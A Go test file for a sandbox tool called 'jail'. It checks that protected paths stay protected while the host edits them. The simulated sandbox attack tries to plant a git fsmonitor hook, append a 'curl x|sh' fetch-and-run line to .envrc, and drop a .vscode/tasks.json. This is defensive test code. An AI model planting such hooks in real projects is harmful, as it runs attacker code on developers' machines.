package main

import (
	"bufio"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/jail-sandbox/jail/jail"
)

// TestProtectionsHoldWhileTheHostEdits: while a sandbox keeps trying to write protected paths,
// the host replaces or removes them as people and tools do (`git config`, which writes
// .git/config by lock file and rename; `mv` of a new .envrc over the old; `rm` of the
// .vscode placeholder). The kernel drops a protection's mount in the sandbox when the host does
// that to a mount's own mountpoint; jail's pid 1 sees it happen and stops the sandbox (exit 125)
// with a line naming the path and what is there now, on stderr or in --report. The git directory
// is protected as a whole, one read-only bind, which a rename inside it leaves in place: there
// the sandbox runs on (exit 0) and its attempts keep failing. Afterwards the host's own git runs
// no planted fsmonitor, and nothing is planted anywhere else. The sandbox could write at a
// changed path between the host's change and pid 1's stop (microseconds, against its one attempt
// every 20 ms): if it did, jail's line must say to check what is there.
func TestProtectionsHoldWhileTheHostEdits(t *testing.T) {
	for _, c := range []struct {
		name   string
		setup  string // on the host, before the run
		host   string // on the host, during the run
		path   string // the protected path it replaces or removes
		stops  bool   // pid 1 stops the sandbox: path was a mount's own mountpoint
		report bool   // with --report: the host stays and pid 1 reports through it
	}{
		{"git config", "", hostGitConfig, ".git/config", false, false},
		{"mv over .envrc", "echo 'export SAFE=1' >.envrc", "echo 'export NEW=1' >e.new && mv e.new .envrc", ".envrc", true, false},
		{"mv over .envrc, reported", "echo 'export SAFE=1' >.envrc", "echo 'export NEW=1' >e.new && mv e.new .envrc", ".envrc", true, true},
		{"rm of the .vscode placeholder", "", "rm .vscode", ".vscode", true, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			proj, _ := project(t)
			marker := filepath.Join(t.TempDir(), "P")
			if c.setup != "" {
				hostSh(t, proj, c.setup)
			}
			attack := `echo ready; for i in $(seq 100); do
  git config core.fsmonitor "id>` + marker + `;echo" 2>/dev/null
  echo 'curl x|sh' 2>/dev/null >>.envrc
  mkdir -p .vscode 2>/dev/null; echo '{}' 2>/dev/null >.vscode/tasks.json
  sleep 0.02
done; echo "the protections stayed"`
			var args []string
			report := filepath.Join(t.TempDir(), "report.json")
			if c.report {
				args = []string{"--report", report}
			}
			cmd := exec.Command(jailBin, append(args, "--", "sh", "-c", attack)...)
			cmd.Dir = proj
			var errb strings.Builder
			cmd.Stderr = &errb
			out, err := cmd.StdoutPipe()
			if err != nil {
				t.Fatal(err)
			}
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
			if line, _ := bufio.NewReader(out).ReadString('\n'); line != "ready\n" {
				t.Fatalf("the sandbox did not start: %q, %s", line, errb.String())
			}
			hostSh(t, proj, c.host)
			io.Copy(io.Discard, out)
			cmd.Wait()
			line := errb.String()
			if c.report {
				var r jail.Report
				b, _ := os.ReadFile(report)
				if err := json.Unmarshal(b, &r); err != nil {
					t.Fatalf("report: %v", err)
				}
				line = r.Error
			}
			want := "protect " + filepath.Join(proj, c.path) + ": "
			code := cmd.ProcessState.ExitCode()
			switch {
			case c.stops && (code != 125 || !strings.Contains(line, want) || !strings.Contains(line, "the sandbox was stopped")):
				t.Errorf("exit %d, %q; want 125 and a line naming %s", code, line, c.path)
			case !c.stops && (code != 0 || strings.Contains(line, "protect")):
				t.Errorf("exit %d, %q; want the sandbox to run on (exit 0)", code, line)
			}
			// What the sandbox may have planted between the host's change and its stop: jail's
			// line must then say to check what is there.
			planted := false
			if b, _ := os.ReadFile(filepath.Join(proj, ".envrc")); strings.Contains(string(b), "curl") {
				planted = true
				if c.path != ".envrc" {
					t.Errorf(".envrc was written, and it was not the path the host changed: %q", b)
				}
			}
			if _, err := os.Stat(filepath.Join(proj, ".vscode", "tasks.json")); err == nil {
				planted = true
				if c.path != ".vscode" {
					t.Error(".vscode/tasks.json was planted, and .vscode was not the path the host changed")
				}
			}
			// The host's own git: a planted fsmonitor would write the marker.
			hostSh(t, proj, "git status --porcelain >/dev/null")
			if _, err := os.Stat(marker); err == nil {
				planted = true
				if c.path != ".git/config" {
					t.Error("the host's git status ran the sandbox's fsmonitor, and .git/config was not the path the host changed")
				}
			}
			if planted && !strings.Contains(line, "check it before you use it") {
				t.Errorf("the sandbox planted something at %s, and jail's line does not say to check it: %q", c.path, line)
			}
		})
	}
}

// hostGitConfig is the host's `git config`, tried again while the sandbox's own attempt holds
// .git/config.lock (it can make the lock file; only renaming it over the protected config fails).
const hostGitConfig = "for i in $(seq 50); do git config user.name Host 2>/dev/null && exit 0; sleep 0.01; done; exit 1"

// hostSh runs script with sh on the host, in dir.
func hostSh(t *testing.T, dir, script string) {
	t.Helper()
	cmd := exec.Command("sh", "-c", script)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%s: %v: %s", script, err, out)
	}
}
